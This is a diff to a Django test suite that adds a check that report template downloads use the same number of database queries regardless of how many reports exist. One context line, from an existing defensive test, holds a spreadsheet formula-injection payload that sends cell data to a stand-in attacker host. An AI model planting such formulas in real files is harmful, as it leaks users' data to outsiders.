@@ -368,3 +368,28 @@ def test_formula_cells_are_never_evaluated(client_for):
     response = upload(client, as_file(workbook))
     assert response.status_code == 200, response.json()
     assert Report.objects.get().summary == '=WEBSERVICE("http://evil.example/"&A1)'
+
+
+def test_template_queries_do_not_grow_with_reports(client_for, accounts):
+    """Queries: the office; the quarters; the obligations with their reports; the reports' target values; the
+    previous periods' reports and their target values; the targets. The same count with one item reported in two
+    quarters as with four items reported in four quarters."""
+    from django.db import connection
+    from django.test.utils import CaptureQueriesContext
+
+    from tests.factories import bulk_reports
+
+    client = client_for("guangdong")
+    quarters = [period(f"2012-Q{n}") for n in (1, 2, 3, 4)]
+
+    def count():
+        with CaptureQueriesContext(connection) as captured:
+            download(client, year=2012)
+        return len(captured)
+
+    bulk_reports(items=[item("IV.2")], periods=quarters[:2], share=1.0)
+    small = count()
+    bulk_reports(items=[item("I.1"), item("II.3"), item("I.2")], periods=quarters, share=1.0)
+    bulk_reports(items=[item("IV.2")], periods=quarters[2:], share=1.0)
+    assert Report.objects.filter(office=office("Guangdong")).count() >= 12
+    assert count() == small
